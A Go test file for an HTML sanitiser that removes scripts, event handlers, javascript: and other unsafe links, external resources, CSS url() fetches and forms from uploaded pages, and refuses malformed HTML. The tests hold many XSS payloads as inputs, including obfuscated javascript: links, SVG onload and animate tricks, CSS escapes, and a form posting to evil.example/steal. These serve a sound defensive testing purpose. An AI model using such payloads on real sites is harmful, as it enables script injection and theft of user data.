package content

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"reflect"
	"strings"
	"testing"
)

// doc wraps a body fragment into a whole, well-formed page.
func doc(body string) string {
	return "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>t</title></head>\n<body>" + body + "</body></html>\n"
}

func rm(kind, name, elem, detail string, count, line int) Removal {
	return Removal{Kind: kind, Name: name, Element: elem, Detail: detail, Count: count, Line: line}
}

// TestPrepareRemovals: one case per kind of removal, each with the exact report and what must (and
// must not) be left in the page.
func TestPrepareRemovals(t *testing.T) {
	for name, tc := range map[string]struct {
		body    string
		want    []Removal
		keep    []string // substrings of the output
		notKeep []string
	}{
		"script with content": {
			body: `<p>a</p><script>alert(1)</script><script src="https://evil.example/x.js"></script>`,
			want: []Removal{rm(KindElement, "script", "", "content", 2, 3),
				rm(KindURL, "src", "script", "https://evil.example/x.js", 1, 3)},
			keep: []string{"<p>a</p>"}, notKeep: []string{"alert", "evil"},
		},
		"event handlers": {
			body: `<img src="data:image/png;base64,iVBORw0KGgo=" onerror="alert(1)" alt="x"><p onclick="x()" ONMOUSEOVER="y()">t</p>`,
			want: []Removal{rm(KindAttribute, "onerror", "img", "", 1, 3), rm(KindAttribute, "onclick", "p", "", 1, 3),
				rm(KindAttribute, "onmouseover", "p", "", 1, 3)},
			keep: []string{`<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">`, "<p>t</p>"}, notKeep: []string{"alert", "on"},
		},
		"javascript links": {
			body: `<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(2)">b</a><a href="java&#x09;script:alert(3)">c</a><a href="vbscript:x">d</a>`,
			want: []Removal{rm(KindURL, "href", "a", "javascript:alert(1)", 1, 3), rm(KindURL, "href", "a", " JaVaScRiPt:alert(2)", 1, 3),
				rm(KindURL, "href", "a", "java\tscript:alert(3)", 1, 3), rm(KindURL, "href", "a", "vbscript:x", 1, 3)},
			keep: []string{"<a>a</a>", "<a>d</a>"}, notKeep: []string{"script:", "href"},
		},
		"allowed links": {
			body: `<a href="https://bakery.example/menu">m</a> <a href="tel:+12125552222">t</a> <a href="sip:bob@home1.net">s</a> <a href="mailto:bob@home1.net">e</a>`,
			keep: []string{`href="https://bakery.example/menu"`, `href="tel:+12125552222"`, `href="sip:bob@home1.net"`, `href="mailto:bob@home1.net"`},
		},
		"relative and other links": {
			body: `<a href="/admin">r</a><a href="#top">f</a><a href="http://plain.example/">h</a><a href="data:text/html;base64,PHNjcmlwdD4=">d</a>`,
			want: []Removal{rm(KindURL, "href", "a", "/admin", 1, 3), rm(KindURL, "href", "a", "#top", 1, 3),
				rm(KindURL, "href", "a", "http://plain.example/", 1, 3), rm(KindURL, "href", "a", "data:text/html;base64,PHNjcmlwdD4=", 1, 3)},
			notKeep: []string{"href"},
		},
		"iframe frame object embed": {
			body: `<iframe src="https://evil.example/"></iframe><object data="x.swf"><p>fallback</p></object><embed src="y.swf"><iframe srcdoc="<script>x</script>"></iframe>`,
			want: []Removal{rm(KindElement, "iframe", "", "content", 2, 3), rm(KindURL, "src", "iframe", "https://evil.example/", 1, 3),
				rm(KindElement, "object", "", "content", 1, 3), rm(KindURL, "data", "object", "x.swf", 1, 3),
				rm(KindElement, "embed", "", "", 1, 3), rm(KindURL, "src", "embed", "y.swf", 1, 3)},
			notKeep: []string{"iframe", "object", "embed", "fallback", "script"},
		},
		"external images": {
			body: `<img src="https://tracker.example/p.gif" alt="t"><img src="//cdn.example/a.png"><img src="a.png"><img src="data:text/html;base64,PHA+">`,
			want: []Removal{rm(KindURL, "src", "img", "https://tracker.example/p.gif", 1, 3), rm(KindURL, "src", "img", "//cdn.example/a.png", 1, 3),
				rm(KindURL, "src", "img", "a.png", 1, 3), rm(KindURL, "src", "img", "data:text/html;base64,PHA+", 1, 3)},
			keep: []string{`<img alt="t">`}, notKeep: []string{"src"},
		},
		"bad base64 image": {
			body: `<img src="data:image/png;base64,***">`,
			want: []Removal{rm(KindURL, "src", "img", "data:image/png;base64,***", 1, 3)},
		},
		"stylesheet link and base": {
			body: `<link rel="stylesheet" href="https://cdn.example/a.css"><base href="https://evil.example/"><p>x</p>`,
			want: []Removal{rm(KindElement, "link", "", "", 1, 3), rm(KindURL, "href", "link", "https://cdn.example/a.css", 1, 3),
				rm(KindElement, "base", "", "", 1, 3), rm(KindURL, "href", "base", "https://evil.example/", 1, 3)},
			notKeep: []string{"link", "base", "cdn"},
		},
		"style attribute url": {
			body: `<p style="color: red; background: url(http://evil.example/b.png); margin: 0">x</p><div style="background-image:url('//t.example/p')"></div>`,
			want: []Removal{rm(KindCSS, "background", "p", "url(http://evil.example/b.png)", 1, 3),
				rm(KindCSS, "background-image", "div", "url('//t.example/p')", 1, 3)},
			keep: []string{`<p style="color: red; margin: 0">x</p>`, "<div></div>"}, notKeep: []string{"url", "evil"},
		},
		"style element fetches": {
			body: `<style>@import url("https://evil.example/x.css"); @import 'y.css';
p { color: #333; background: url(https://evil.example/bg.png) no-repeat; }
@font-face { font-family: X; src: url(https://fonts.example/x.woff2); }
@media (max-width: 600px) { p { margin: 0; list-style-image: image-set("a.png" 1x); } }
div { behavior: url(x.htc); -moz-binding: url(y.xml#z); content: "\75 rl(x)"; }</style><p>x</p>`,
			want: []Removal{rm(KindCSS, "@import", "style", `url("https://evil.example/x.css")`, 1, 3),
				rm(KindCSS, "@import", "style", "'y.css'", 1, 3),
				rm(KindCSS, "background", "style", "url(https://evil.example/bg.png)", 1, 3),
				rm(KindCSS, "@font-face", "style", "", 1, 3),
				rm(KindCSS, "list-style-image", "style", `image-set("a.png" 1x)`, 1, 3),
				rm(KindCSS, "behavior", "style", "url(x.htc)", 1, 3),
				rm(KindCSS, "-moz-binding", "style", "url(y.xml#z)", 1, 3),
				rm(KindCSS, "content", "style", `"\75 rl(x)"`, 1, 3)},
			keep:    []string{"p { color: #333;", "@media (max-width: 600px) { p { margin: 0;"},
			notKeep: []string{"url", "@import", "font-face", "image-set", "\\"},
		},
		"css comment and stray less-than": {
			body: `<style>p{color:red}/* hidden */ a<b{color:blue} i{color:green}</style>`,
			want: []Removal{rm(KindComment, "css", "style", "", 1, 3), rm(KindCSS, "selector", "style", "a<b", 1, 3)},
			keep: []string{"<style>p{color:red}  i{color:green}</style>"},
		},
		"comments": {
			body: `<!-- one --><p>x</p><!--[if IE]><script>alert(1)</script><![endif]-->`,
			want: []Removal{rm(KindComment, "html", "", "", 2, 3)},
			keep: []string{"<body><p>x</p></body>"}, notKeep: []string{"<!--", "IE"},
		},
		"svg kept, its dangers not": {
			body: `<svg viewBox="0 0 10 10" onload="alert(1)"><defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>` +
				`<circle cx="5" cy="5" r="4" fill="url(#g)"/><rect width="2" height="2" fill="url(https://evil.example/p.svg#x)"/>` +
				`<use href="https://evil.example/s.svg#a"/><image href="https://evil.example/i.png"/><style>circle{fill:red}</style>` +
				`<foreignObject><p>html</p></foreignObject><a href="javascript:alert(1)"><text x="1" y="1">t</text></a>` +
				`<animate attributeName="href" to="javascript:alert(1)"/><script>alert(2)</script></svg>`,
			want: []Removal{rm(KindAttribute, "onload", "svg", "", 1, 3),
				rm(KindAttribute, "fill", "rect", "", 1, 3),
				rm(KindElement, "use", "", "", 1, 3), rm(KindURL, "href", "use", "https://evil.example/s.svg#a", 1, 3),
				rm(KindElement, "image", "", "", 1, 3), rm(KindURL, "href", "image", "https://evil.example/i.png", 1, 3),
				rm(KindElement, "style", "", "content", 1, 3),
				rm(KindElement, "foreignobject", "", "content", 1, 3),
				rm(KindURL, "href", "a", "javascript:alert(1)", 1, 3),
				rm(KindElement, "animate", "", "", 1, 3),
				rm(KindElement, "script", "", "content", 1, 3)},
			keep:    []string{`<circle cx="5" cy="5" r="4" fill="url(#g)"/>`, `<lineargradient id="g">`, `<text x="1" y="1">t</text>`},
			notKeep: []string{"evil", "javascript", "alert", "onload", "<style", "foreignobject"},
		},
		"forms and unknown elements keep their text": {
			body: `<form action="https://evil.example/steal"><input name="pin"><button formaction="x">Send</button></form><blink>hi</blink><my-card>c</my-card>`,
			want: []Removal{rm(KindElement, "form", "", "", 1, 3), rm(KindURL, "action", "form", "https://evil.example/steal", 1, 3),
				rm(KindElement, "input", "", "", 1, 3), rm(KindElement, "button", "", "", 1, 3),
				rm(KindURL, "formaction", "button", "x", 1, 3), rm(KindElement, "blink", "", "", 1, 3),
				rm(KindElement, "my-card", "", "", 1, 3)},
			keep: []string{"<body>Sendhic</body>"},
		},
		"meta refresh": {
			body: `<meta http-equiv="refresh" content="0;url=https://evil.example/"><meta name="viewport" content="width=device-width, initial-scale=1"><p>x</p>`,
			want: []Removal{rm(KindAttribute, "http-equiv", "meta", "", 1, 3), rm(KindAttribute, "content", "meta", "", 1, 3)},
			keep: []string{`<meta><meta name="viewport" content="width=device-width, initial-scale=1">`},
		},
		"attributes with refused values": {
			body: `<p class="a<b" id="ok" lang="en" dir="sideways" title="anything &lt;goes&gt;">x</p><ol start="x1"><li value="3">a</li></ol>`,
			want: []Removal{rm(KindAttribute, "class", "p", "", 1, 3), rm(KindAttribute, "dir", "p", "", 1, 3),
				rm(KindAttribute, "start", "ol", "", 1, 3)},
			keep: []string{`<p id="ok" lang="en" title="anything &lt;goes&gt;">`, `<li value="3">`},
		},
		"no attributes left": {
			body: `<p onclick="a()" onkeyup="b()">x</p>`,
			want: []Removal{rm(KindAttribute, "onclick", "p", "", 1, 3), rm(KindAttribute, "onkeyup", "p", "", 1, 3)},
			keep: []string{"<p>x</p>"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			p, rep, err := Prepare("card.html", []byte(doc(tc.body)), DefaultPolicy())
			if err != nil {
				t.Fatalf("Prepare: %v", err)
			}
			if !reflect.DeepEqual(rep.Removed, tc.want) {
				t.Errorf("removed:\n got %+v\nwant %+v", rep.Removed, tc.want)
			}
			out := string(p.Body)
			for _, k := range tc.keep {
				if !strings.Contains(out, k) {
					t.Errorf("output lacks %q:\n%s", k, out)
				}
			}
			for _, k := range tc.notKeep {
				if strings.Contains(strings.ToLower(out), strings.ToLower(k)) {
					t.Errorf("output still holds %q:\n%s", k, out)
				}
			}
			if rep.BytesIn != len(doc(tc.body)) || rep.BytesOut != len(p.Body) {
				t.Errorf("bytes in/out %d/%d, want %d/%d", rep.BytesIn, rep.BytesOut, len(doc(tc.body)), len(p.Body))
			}
			if msg := unsafeOutput(p.Body); msg != "" {
				t.Errorf("output unsafe: %s\n%s", msg, out)
			}
			assertIdempotent(t, p)
		})
	}
}

// assertIdempotent: preparing a prepared page removes nothing and changes no byte.
func assertIdempotent(t testing.TB, p *Page) {
	t.Helper()
	p2, rep, err := Prepare(p.Name, p.Body, DefaultPolicy())
	if err != nil {
		t.Fatalf("Prepare(output): %v\n%s", err, p.Body)
	}
	if !rep.Clean() || !bytes.Equal(p2.Body, p.Body) {
		t.Fatalf("Prepare(output) removed %+v, bytes equal %v\n%s\n%s", rep.Removed, bytes.Equal(p2.Body, p.Body), p.Body, p2.Body)
	}
}

// TestPrepareErrors: every refusal, with its code and position.
func TestPrepareErrors(t *testing.T) {
	for name, tc := range map[string]struct {
		name      string
		body      string
		pol       *Policy
		err       error
		code      string
		line, col int
		offset    int
		reason    string
	}{
		"empty":          {body: "", err: ErrEmptyPage, code: "empty_page"},
		"bad name":       {name: "a/b.html", body: doc("x"), err: ErrBadName, code: "bad_name"},
		"too large":      {body: doc(strings.Repeat("x", 2000)), pol: &Policy{MaxBytes: 1024}, err: ErrTooLarge, code: "page_too_large"},
		"not utf-8":      {body: "<!DOCTYPE html>\n<p>caf\xe9</p>", err: ErrNotUTF8, code: "not_utf8", line: 2, col: 7, offset: 22},
		"utf-8 after é":  {body: "<!DOCTYPE html>\n<p>é\xff</p>", err: ErrNotUTF8, code: "not_utf8", line: 2, col: 5, offset: 21},
		"truncated rune": {body: "<!DOCTYPE html><p>\xe2\x82</p>", err: ErrNotUTF8, code: "not_utf8", line: 1, col: 19, offset: 18},
		"not html":       {body: "Hello, this is plain text.", err: ErrNotHTML, code: "not_html"},
		"fragment":       {body: "<p>hello</p>", err: ErrNotHTML, code: "not_html"},
		"nul":            {body: "<!DOCTYPE html>\n<p>a\x00</p>", err: ErrMalformed, code: "malformed_html", line: 2, col: 5, offset: 20},
		"control char":   {body: "<!DOCTYPE html><p>\x1b[31m</p>", err: ErrMalformed, code: "malformed_html", line: 1, col: 19, offset: 18},
		// FuzzPrepare's second find (testdata/fuzz/FuzzPrepare/fa66a31d96efcb93): a reference decoded
		// into a control character made the output one that Prepare refuses.
		"control char reference": {body: "<html>&&&#01", err: ErrMalformed, code: "malformed_html", line: 1, col: 7, offset: 6,
			reason: "character reference to U+0001"},
		"C1 reference in attribute": {body: "<!DOCTYPE html><p title=\"&#x81;\">x</p>", err: ErrMalformed, code: "malformed_html", line: 1, col: 16, offset: 15},
		"unterminated tag": {body: "<!DOCTYPE html>\n<body>\n<p class=\"x", err: ErrMalformed, code: "malformed_html", line: 3, col: 1, offset: 23,
			reason: "markup cut off by the end of the page"},
		"unterminated comment": {body: "<!DOCTYPE html>\n<body><!-- open", err: ErrMalformed, code: "malformed_html", line: 2, col: 7, offset: 22,
			reason: "unterminated comment"},
		"abrupt comment": {body: "<!DOCTYPE html><body><!--></body>", err: ErrMalformed, code: "malformed_html", line: 1, col: 22, offset: 21},
		"bogus comment":  {body: "<!DOCTYPE html><body><?php echo 1 ?></body>", err: ErrMalformed, code: "malformed_html", line: 1, col: 22, offset: 21},
		"unclosed script": {body: "<!DOCTYPE html><body>\n  <script>alert(1)", err: ErrMalformed, code: "malformed_html", line: 2, col: 3, offset: 24,
			reason: "<script> is never closed"},
		"unclosed div": {body: "<!DOCTYPE html><body>\n<div>\n<p>x</p>\n</body>", err: ErrMalformed, code: "malformed_html", line: 4, col: 1, offset: 37,
			reason: "</body> while <div> (opened at 2:1) is still open"},
		"misnested": {body: "<!DOCTYPE html><p><b><i>x</b></i></p>", err: ErrMalformed, code: "malformed_html", line: 1, col: 26, offset: 25,
			reason: "</b> while <i> (opened at 1:22) is still open"},
		"stray end tag": {body: "<!DOCTYPE html><body></span></body>", err: ErrMalformed, code: "malformed_html", line: 1, col: 22, offset: 21,
			reason: "end tag </span> without an open <span>"},
		"p closed by div then end tag": {body: "<!DOCTYPE html><p>a<div>b</div></p>", err: ErrMalformed, code: "malformed_html", line: 1, col: 32, offset: 31,
			reason: "end tag </p> without an open <p>"},
		"block closes p with open inline": {body: "<!DOCTYPE html><p><b>a<div>b</div></b></p>", err: ErrMalformed, code: "malformed_html", line: 1, col: 23, offset: 22,
			reason: "<div> closes <p> while <b> (opened at 1:19) is still open"},
		"self-closing div": {body: "<!DOCTYPE html><body><div/>x</body>", err: ErrMalformed, code: "malformed_html", line: 1, col: 22, offset: 21,
			reason: "<div/> is not self-closing in HTML: the element stays open"},
		"void end tag": {body: "<!DOCTYPE html><p>a</br></p>", err: ErrMalformed, code: "malformed_html", line: 1, col: 20, offset: 19},
		"duplicate attribute": {body: "<!DOCTYPE html><p class=a class=b>x</p>", err: ErrMalformed, code: "malformed_html", line: 1, col: 16, offset: 15,
			reason: "duplicate attribute class in <p>"},
		// The bounds that keep the quadratic checks cheap (a 1 MiB upload of one tag's attributes or of
		// nested <div>s took tens of seconds of a core).
		"65 attributes": {body: "<!DOCTYPE html><p" + attrs(65) + ">x</p>", err: ErrMalformed, code: "malformed_html", line: 1, col: 16, offset: 15,
			reason: "more than 64 attributes in <p>"},
		"nested 257 deep": {body: "<!DOCTYPE html><body>" + strings.Repeat("<div>", 256) + "x", err: ErrMalformed, code: "malformed_html",
			line: 1, col: 1297, offset: 1296, reason: "<div> nested deeper than 256 elements"}, // <body> and 255 <div>s are 256
		"quote in attribute name": {body: "<!DOCTYPE html><p a\"b=1>x</p>", err: ErrMalformed, code: "malformed_html", line: 1, col: 16, offset: 15},
		"attributes on end tag":   {body: "<!DOCTYPE html><p>x</p class=a>", err: ErrMalformed, code: "malformed_html", line: 1, col: 20, offset: 19},
		"late doctype":            {body: "<html><!DOCTYPE html></html>", err: ErrMalformed, code: "malformed_html", line: 1, col: 7, offset: 6},
		"second body":             {body: "<!DOCTYPE html><body></body><body></body>", err: ErrMalformed, code: "malformed_html", line: 1, col: 29, offset: 28},
		"text after html":         {body: "<!DOCTYPE html><html></html>\nextra", err: ErrMalformed, code: "malformed_html", line: 1, col: 29, offset: 28},
		"svg unclosed":            {body: "<!DOCTYPE html><p><svg><g></svg></p>", err: ErrMalformed, code: "malformed_html", line: 1, col: 27, offset: 26},
		"nothing left":            {body: "<!DOCTYPE html><script>alert(1)</script>\n", err: ErrEmptyPage, code: "empty_page", reason: "nothing the policy allows is left"},
		"doctype only":            {body: "<!DOCTYPE html>", err: ErrEmptyPage, code: "empty_page", reason: "nothing the policy allows is left"},
	} {
		t.Run(name, func(t *testing.T) {
			pol := DefaultPolicy()
			if tc.pol != nil {
				pol = *tc.pol
			}
			n := tc.name
			if n == "" {
				n = "card.html"
			}
			p, _, err := Prepare(n, []byte(tc.body), pol)
			if p != nil || !errors.Is(err, tc.err) {
				t.Fatalf("Prepare = %v, %v; want %v", p, err, tc.err)
			}
			if got := Code(err); got != tc.code {
				t.Errorf("Code = %q, want %q", got, tc.code)
			}
			ie, ok := errors.AsType[*InputError](err)
			if !ok {
				t.Fatalf("error %v is not an *InputError", err)
			}
			if ie.Line != tc.line || ie.Col != tc.col || ie.Offset != tc.offset {
				t.Errorf("at %d:%d (offset %d), want %d:%d (offset %d): %v", ie.Line, ie.Col, ie.Offset, tc.line, tc.col, tc.offset, err)
			}
			if tc.reason != "" && ie.Reason != tc.reason {
				t.Errorf("reason %q, want %q", ie.Reason, tc.reason)
			}
		})
	}
}

// TestWellFormedAccepts: HTML the standard's parser takes without error recovery, including the
// end tags it lets an author leave out.
func TestWellFormedAccepts(t *testing.T) {
	for name, body := range map[string]string{
		"optional end tags": "<!DOCTYPE html><html><head><title>x</title><body><p>a<p>b<ul><li>1<li>2</ul><dl><dt>a<dd>b</dl>" +
			"<table><tr><td>1<td>2<tr><th>3</table><p>c<div>d</div>",
		"void elements":                    "<!DOCTYPE html><p>a<br>b<br/>c<hr><img alt=x><wbr></p>",
		"64 attributes, 256 elements deep": "<!DOCTYPE html><body><p" + attrs(64) + ">x</p>" + strings.Repeat("<div>", 255) + "x" + strings.Repeat("</div>", 255),
		"svg self-closing":                 "<!DOCTYPE html><svg viewBox=\"0 0 1 1\"><path d=\"M0 0\"/><g><circle r=\"1\"/></g></svg>",
		"xml declaration":                  "<?xml version=\"1.0\"?><html><body>x</body></html>",
		"comments anywhere":                "<!-- a --><!DOCTYPE html><!----><p>x<!-- b --></p>",
		"raw text with tags":               "<!DOCTYPE html><title>a <b> c</title><style>p>b{color:red}</style><p>x",
		"entities":                         "<!DOCTYPE html><p>&amp; &lt; &eacute; &#x263A; &bogus;</p>",
		"bom":                              "\ufeff<!DOCTYPE html><p>x</p>",
	} {
		t.Run(name, func(t *testing.T) {
			if err := checkWellFormed([]byte(body)); err != nil {
				t.Fatal(err)
			}
		})
	}
}

// TestPreparePolicyKnobs: each knob of Policy takes away what it governs and nothing else.
func TestPreparePolicyKnobs(t *testing.T) {
	const body = `<style>p{color:red}</style><p style="margin:0">x <a href="https://a.example/">a</a> <a href="tel:+1">t</a></p>` +
		`<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="i"><svg viewBox="0 0 1 1"><circle r="1"/></svg>`
	for name, tc := range map[string]struct {
		pol  func(*Policy)
		want []Removal
	}{
		"default": {pol: func(*Policy) {}},
		"no styles": {pol: func(p *Policy) { p.Styles = false },
			want: []Removal{rm(KindElement, "style", "", "content", 1, 3), rm(KindAttribute, "style", "p", "", 1, 3)}},
		"no images": {pol: func(p *Policy) { p.Images = false },
			want: []Removal{rm(KindElement, "img", "", "", 1, 3), rm(KindURL, "src", "img", "data:image/gif;base64,R0lGODlhAQABAAAAACw=", 1, 3)}},
		"no svg": {pol: func(p *Policy) { p.SVG = false },
			want: []Removal{rm(KindElement, "svg", "", "content", 1, 3)}},
		"tel links only": {pol: func(p *Policy) { p.LinkSchemes = []string{"tel"} },
			want: []Removal{rm(KindURL, "href", "a", "https://a.example/", 1, 3)}},
		"no links; javascript refused even if listed": {pol: func(p *Policy) { p.LinkSchemes = []string{"javascript", " "} },
			want: []Removal{rm(KindURL, "href", "a", "https://a.example/", 1, 3), rm(KindURL, "href", "a", "tel:+1", 1, 3)}},
	} {
		t.Run(name, func(t *testing.T) {
			pol := DefaultPolicy()
			tc.pol(&pol)
			p, rep, err := Prepare("card.html", []byte(doc(body)), pol)
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(rep.Removed, tc.want) {
				t.Errorf("removed:\n got %+v\nwant %+v", rep.Removed, tc.want)
			}
			if msg := unsafeOutput(p.Body); msg != "" {
				t.Errorf("unsafe output: %s", msg)
			}
		})
	}
}

// TestPrepareLimitIsTheUpload: MaxBytes bounds the upload as sent, and 0 or too much means
// MaxPageBytes.
func TestPrepareLimitIsTheUpload(t *testing.T) {
	body := []byte(doc(strings.Repeat("<p>x</p>", 200)))
	for _, tc := range []struct {
		max int
		ok  bool
	}{{len(body), true}, {len(body) - 1, false}, {0, true}, {MaxPageBytes * 2, true}} {
		_, _, err := Prepare("card.html", body, Policy{MaxBytes: tc.max})
		if (err == nil) != tc.ok || !tc.ok && !errors.Is(err, ErrTooLarge) {
			t.Errorf("MaxBytes %d, %d bytes: %v", tc.max, len(body), err)
		}
	}
	if _, _, err := Prepare("card.html", bigHTML(MaxPageBytes+1), Policy{MaxBytes: MaxPageBytes * 2}); !errors.Is(err, ErrTooLarge) {
		t.Errorf("above MaxPageBytes: %v", err)
	}
}

// TestCheckSafeRefuses: the final check refuses each thing the sanitiser must never let through,
// whatever the allow-lists say (it is the net under a bug in them).
func TestCheckSafeRefuses(t *testing.T) {
	for _, b := range []string{
		`<script>alert(1)</script>`, `<p onclick="x()">`, `<a href="javascript:alert(1)">`, `<a href="/rel">`,
		`<a href="data:text/html,x">`, `<img src="https://t.example/p.gif">`, `<iframe></iframe>`, `<object>`,
		`<p style="background:url(http://x)">`, `<style>@import "x.css";</style>`, `<style>p{background:u\72l(x)}</style>`,
		`<svg><style>p{}</style></svg>`, `<rect fill="url(http://x/a.svg#p)"/>`, `<svg><use href="x"/></svg>`,
		`<meta http-equiv="refresh" content="0">`, `<!-- c -->`, `<link rel=stylesheet>`, `<p xlink:href="x">`,
		`<p style="scroll-behavior:smooth;behavior:url(x.htc)">`,
	} {
		if err := checkSafe([]byte(b)); !errors.Is(err, ErrUnsafe) {
			t.Errorf("checkSafe(%q) = %v", b, err)
		}
	}
	for _, b := range []string{
		`<p style="scroll-behavior:smooth">x</p>`, `<rect fill="url(#g)"/>`, `<a href="tel:+1">`,
		`<img src="data:image/png;base64,AAAA">`, `<style>p{color:red}</style>`,
	} {
		if err := checkSafe([]byte(b)); err != nil {
			t.Errorf("checkSafe(%q) = %v", b, err)
		}
	}
}

// TestBluemondayAgrees: bluemonday, run over the walker's output, removes nothing from the
// script-laden corpus (the walker reports everything, so the report is complete), and when it is
// given something the walker would have removed, diffRemovals reports it.
func TestBluemondayAgrees(t *testing.T) {
	r := DefaultPolicy().compile()
	for _, s := range fuzzSeeds {
		if checkWellFormed([]byte(s)) != nil {
			continue
		}
		mid, _, _ := r.walk([]byte(s))
		if out := r.bm.SanitizeBytes(mid); !bytes.Equal(out, mid) {
			t.Errorf("bluemonday changed the walker's output of %q:\n%s\n%s", s, mid, out)
		}
	}
	var rb reportBuilder
	mid := []byte(`<p onclick="x()" class="a">t</p><iframe src="x"></iframe><b>b</b>`)
	diffRemovals(mid, r.bm.SanitizeBytes(mid), &rb)
	want := []Removal{rm(KindAttribute, "onclick", "p", "removed by bluemonday", 1, 0),
		rm(KindElement, "iframe", "", "removed by bluemonday", 1, 0)}
	if !reflect.DeepEqual(rb.r.Removed, want) {
		t.Errorf("diffRemovals:\n got %+v\nwant %+v", rb.r.Removed, want)
	}
}

// TestReportJSON: the report's JSON shape, as the upload API returns it.
func TestReportJSON(t *testing.T) {
	_, rep, err := Prepare("card.html", []byte(doc(`<img src="https://t.example/p.gif" onerror="alert(1)"><img src="https://t.example/p.gif">`)), DefaultPolicy())
	if err != nil {
		t.Fatal(err)
	}
	j, err := json.Marshal(rep)
	if err != nil {
		t.Fatal(err)
	}
	const want = `{"removed":[{"kind":"url","name":"src","element":"img","detail":"https://t.example/p.gif","count":2,"line":3},` +
		`{"kind":"attribute","name":"onerror","element":"img","count":1,"line":3}],"bytes_in":184,"bytes_out":105}`
	if string(j) != want {
		t.Errorf("JSON\n got %s\nwant %s", j, want)
	}
	if rep.Count("") != 3 || rep.Count(KindURL) != 2 || rep.Clean() {
		t.Errorf("Count = %d/%d, Clean %v", rep.Count(""), rep.Count(KindURL), rep.Clean())
	}
}

// TestPageSanitized: only pages built through Prepare say they are sanitised.
func TestPageSanitized(t *testing.T) {
	p, err := NewPage("card.html", []byte(hello))
	if err != nil || !p.Sanitized() {
		t.Errorf("NewPage: %v, sanitised %v", err, p.Sanitized())
	}
	if (&Page{Name: "x.html", Body: []byte(hello)}).Sanitized() || (*Page)(nil).Sanitized() {
		t.Error("a Page literal claims to be sanitised")
	}
}

// TestPrepareDoctype: a legacy doctype becomes <!DOCTYPE html> and is reported; no doctype stays
// none; <!doctype html> in any letter case is kept as it is, other spellings of it become
// <!DOCTYPE html>, without a report.
func TestPrepareDoctype(t *testing.T) {
	for name, tc := range map[string]struct {
		in, prefix string
		want       []Removal
	}{
		"legacy": {in: `<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN">` + "\n<html><body>x</body></html>", prefix: "<!DOCTYPE html>\n<html>",
			want: []Removal{rm(KindDoctype, "doctype", "", `html PUBLIC "-//W3C//DTD HTML 4.01//EN"`, 1, 1)}},
		"lowercase kept": {in: "<!doctype html><p>x</p>", prefix: "<!doctype html><p>"},
		"spaced":         {in: "<!DOCTYPE html ><p>x</p>", prefix: "<!DOCTYPE html><p>"},
		"none":           {in: "<html><body>x</body></html>", prefix: "<html><body>"},
	} {
		t.Run(name, func(t *testing.T) {
			p, rep, err := Prepare("card.html", []byte(tc.in), DefaultPolicy())
			if err != nil {
				t.Fatal(err)
			}
			if !strings.HasPrefix(string(p.Body), tc.prefix) || !reflect.DeepEqual(rep.Removed, tc.want) {
				t.Errorf("got %q %+v, want prefix %q %+v", p.Body, rep.Removed, tc.prefix, tc.want)
			}
		})
	}
}

// TestCSSCutOffAtEndOfStyle is FuzzPrepare's first find (testdata/fuzz/FuzzPrepare/b3eda35f3065e6d5):
// a declaration whose string or block is cut off by </style> was kept, then read differently once
// the sanitiser closed the block, so a second pass removed it. Unbalanced pieces are removed now.
func TestCSSCutOffAtEndOfStyle(t *testing.T) {
	for in, want := range map[string]string{
		`p{color:red"x`:         "p{}",
		`p{color:rgba(1,2,3`:    "p{}",
		`p{color:red`:           "p{color:red}",
		`@media (x{p{color:red`: "",
		`a[title="x]{color:red`: "",
	} {
		got, _ := sanitizeStylesheet(in)
		if got != want {
			t.Errorf("sanitizeStylesheet(%q) = %q, want %q", in, got, want)
		}
		if again, cuts := sanitizeStylesheet(got); again != got || len(cuts) != 0 {
			t.Errorf("second pass over %q: %q, %v", got, again, cuts)
		}
	}
}

// TestPrepareKeepsEmailStyleHTML: the presentational attributes card builders emit survive, their
// URL-bearing cousin (background=) does not.
func TestPrepareKeepsEmailStyleHTML(t *testing.T) {
	in := doc(`<style type="text/css" media="screen">td{padding:4px}</style>` +
		`<table border="0" cellpadding="0" cellspacing="0" width="100%" align="center" bgcolor="#fff8e6">` +
		`<tr valign="top"><td width="40" height="40" align="left" bgcolor="#c8743a" background="https://t.example/bg.png">x</td></tr></table>` +
		`<p align="center"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="40" height="40" alt="logo"></p>`)
	p, rep, err := Prepare("card.html", []byte(in), DefaultPolicy())
	if err != nil {
		t.Fatal(err)
	}
	want := []Removal{rm(KindURL, "background", "td", "https://t.example/bg.png", 1, 3)}
	if !reflect.DeepEqual(rep.Removed, want) {
		t.Errorf("removed:\n got %+v\nwant %+v", rep.Removed, want)
	}
	for _, k := range []string{`<style type="text/css" media="screen">`, `<table border="0" cellpadding="0" cellspacing="0" width="100%" align="center" bgcolor="#fff8e6">`,
		`<tr valign="top"><td width="40" height="40" align="left" bgcolor="#c8743a">`, `<p align="center">`} {
		if !strings.Contains(string(p.Body), k) {
			t.Errorf("lost %s:\n%s", k, p.Body)
		}
	}
}

// attrs is n distinct attributes, each with a leading space.
func attrs(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, " a%d=%d", i, i)
	}
	return b.String()
}
